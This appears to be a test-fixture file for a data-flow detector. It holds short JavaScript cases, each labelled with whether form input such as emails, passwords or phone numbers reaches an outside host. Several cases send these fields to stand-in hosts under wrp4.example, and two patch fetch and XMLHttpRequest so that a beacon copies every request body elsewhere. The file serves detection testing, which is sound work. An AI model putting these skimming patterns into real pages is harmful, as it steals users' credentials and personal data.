//# react-hooks-compiled
// flow: email > rhk.wrp4.example via fetch
function Login1() {
  const [mail, setMail] = React.useState('');
  return React.createElement('form', { onSubmit: () => fetch('https://rhk.wrp4.example/', { method: 'POST', body: mail }) },
    React.createElement('input', { type: 'email', onChange: (e) => setMail(e.target.value) }));
}
ReactDOM.createRoot(document.body).render(React.createElement(Login1));

//# react-other-state
// flow: search > ros.wrp4.example via fetch
// why: near miss: the password's state is not sent
function Page2() {
  const [q, setQ] = React.useState('');
  const [pw, setPw] = React.useState('');
  const go = () => fetch('https://ros.wrp4.example/?q=' + q);
  return React.createElement('div', { onClick: go },
    React.createElement('input', { type: 'search', onChange: (e) => setQ(e.target.value) }),
    React.createElement('input', { type: 'password', value: pw, onChange: (e) => setPw(e.target.value) }));
}
ReactDOM.render(React.createElement(Page2), document.body);

//# react-reducer
// flow: phone > rrd.wrp4.example via fetch
function Form3() {
  const [state, dispatch] = React.useReducer((s, a) => ({ ...s, tel: a.value }), { tel: '' });
  React.useEffect(() => { fetch('https://rrd.wrp4.example/', { method: 'POST', body: JSON.stringify(state) }); }, [state]);
  return React.createElement('input', { type: 'tel', onChange: (e) => dispatch({ value: e.target.value }) });
}
ReactDOM.render(React.createElement(Form3), document.body);

//# vue-options-model
// flow: message > vom.wrp4.example via fetch
Vue.createApp({
  data() { return { text: '' }; },
  template: '<textarea name="message" v-model="text"></textarea><button @click="send">go</button>',
  methods: { send() { fetch('https://vom.wrp4.example/', { method: 'POST', body: this.text }); } },
}).mount('#app');

//# vue-composition-event
// flow: email > vce.wrp4.example via fetch
const mail5 = Vue.ref('');
const onInput5 = (e) => { mail5.value = e.target.value; };
document.querySelector('input[type=email]').addEventListener('input', onInput5);
Vue.watch(mail5, (now) => fetch('https://vce.wrp4.example/', { method: 'POST', body: now }));

//# preact-signal
// flow: username > prs.wrp4.example via fetch
const user6 = signal('');
document.querySelector('input[name=username]').addEventListener('input', (e) => { user6.value = e.target.value; });
effect(() => fetch('https://prs.wrp4.example/', { method: 'POST', body: user6.value }));

//# jquery-delegated
// flow: email > jqd.wrp4.example via xhr
$(document).on('change', 'input[type=email]', function () { $.post('https://jqd.wrp4.example/', { e: $(this).val() }); });

//# jquery-each-fields
// flow: input > jqe.wrp4.example via xhr
const data8 = {};
$('form :input').each(function () { data8[this.name] = $(this).val(); });
$.ajax({ url: 'https://jqe.wrp4.example/', type: 'POST', data: data8 });

//# axios-config-call
// flow: password > axc.wrp4.example via http
axios({ method: 'post', url: 'https://axc.wrp4.example/', data: { p: document.querySelector('input[type=password]').value } });

//# axios-interceptor-drops
// no flow
// why: the interceptor empties the data before each request
axios.interceptors.request.use((c) => { c.data = undefined; return c; });
axios.post('https://axd.wrp4.example/', { p: document.querySelector('input[type=password]').value });

//# worker-in-blob-forwards
// flow: email > wbf.wrp4.example via fetch
const src11 = "onmessage = function (e) { fetch('https://wbf.wrp4.example/', { method: 'POST', body: e.data }); };";
const w11 = new Worker(URL.createObjectURL(new Blob([src11], { type: 'text/javascript' })));
w11.postMessage(document.querySelector('input[type=email]').value);

//# worker-in-blob-listener-field
// flow: phone > wbl.wrp4.example via fetch
// why: near miss: the worker forwards one field of the message
const w12 = new Worker(URL.createObjectURL(new Blob([`self.addEventListener('message', ({ data }) => fetch('https://wbl.wrp4.example/', { method: 'POST', body: data.tel }));`])));
w12.postMessage({ tel: document.querySelector('input[type=tel]').value, pw: document.querySelector('input[type=password]').value });

//# message-channel-ports
// flow: message > mch.wrp4.example via fetch
const ch13 = new MessageChannel();
ch13.port1.onmessage = (e) => fetch('https://mch.wrp4.example/', { method: 'POST', body: e.data });
ch13.port2.postMessage(document.querySelector('textarea[name=message]').value);

//# broadcast-between-instances
// flow: search > brc.wrp4.example via fetch
const rx14 = new BroadcastChannel('search14');
rx14.onmessage = ({ data }) => fetch('https://brc.wrp4.example/?q=' + data);
new BroadcastChannel('search14').postMessage(document.querySelector('input[type=search]').value);

//# debounced-sender
// flow: search > deb.wrp4.example via fetch
function debounce15(f, ms) { let t; return function (...a) { clearTimeout(t); t = setTimeout(() => f.apply(this, a), ms); }; }
const send15 = debounce15((q) => fetch('https://deb.wrp4.example/?q=' + q), 200);
document.querySelector('input[type=search]').addEventListener('input', (e) => send15(e.target.value));

//# memoised-reader
// flow: identifier > mem.wrp4.example via fetch
const memo16 = (f) => { const cache = new Map(); return (k) => { if (!cache.has(k)) cache.set(k, f(k)); return cache.get(k); }; };
const item16 = memo16((k) => localStorage.getItem(k));
fetch('https://mem.wrp4.example/?u=' + item16('uid'));

//# fetch-patched
// flow: password > pat.wrp4.example via beacon
// flow: password > own.wrp4.example via fetch
const real17 = window.fetch;
window.fetch = function (url, init) { navigator.sendBeacon('https://pat.wrp4.example/', init.body); return real17(url, init); };
window.fetch('https://own.wrp4.example/', { method: 'POST', body: document.querySelector('input[type=password]').value });

//# xhr-send-patched
// flow: email > tap.wrp4.example via beacon
// flow: email > api.wrp4.example via xhr
const send18 = XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send = function (body) { navigator.sendBeacon('https://tap.wrp4.example/', body); return send18.call(this, body); };
const x18 = new XMLHttpRequest();
x18.open('POST', 'https://api.wrp4.example/');
x18.send(document.querySelector('input[type=email]').value);

//# middleware-chain
// flow: username > mwc.wrp4.example via fetch
const chain19 = [(c, next) => { c.v = 2; return next(c); }, (c) => fetch('https://mwc.wrp4.example/', { method: 'POST', body: JSON.stringify(c) })];
const run19 = (i, c) => chain19[i](c, (n) => run19(i + 1, n));
run19(0, { u: document.querySelector('input[name=username]').value });

//# middleware-returns-early
// no flow
// why: the first middleware never calls the next one
const chain20 = [(c, next) => 'stopped', (c) => fetch('https://mwe.wrp4.example/', { method: 'POST', body: JSON.stringify(c) })];
const run20 = (i, c) => chain20[i](c, (n) => run20(i + 1, n));
run20(0, { u: document.querySelector('input[name=username]').value });

//# sender-made-and-dropped
// no flow
// why: the closure is made and never called
const make21 = (v) => () => fetch('https://drp.wrp4.example/', { method: 'POST', body: v });
make21(document.querySelector('input[type=email]').value);

//# scrubber-by-list
// flow: email > scr.wrp4.example via fetch
// why: near miss: the keys of the list are deleted first
function scrub22(o) { ['password', 'card'].forEach((k) => { delete o[k]; }); return o; }
fetch('https://scr.wrp4.example/', { method: 'POST', body: JSON.stringify(scrub22({ email: document.querySelector('input[type=email]').value, password: document.querySelector('input[type=password]').value })) });

//# before-send-returns-null
// no flow
// why: the hook returns null and the sender stops
const hooks23 = { beforeSend: () => null };
function capture23(e) { const out = hooks23.beforeSend(e); if (!out) return; fetch('https://bsn.wrp4.example/', { method: 'POST', body: JSON.stringify(out) }); }
capture23({ m: document.querySelector('textarea[name=message]').value });
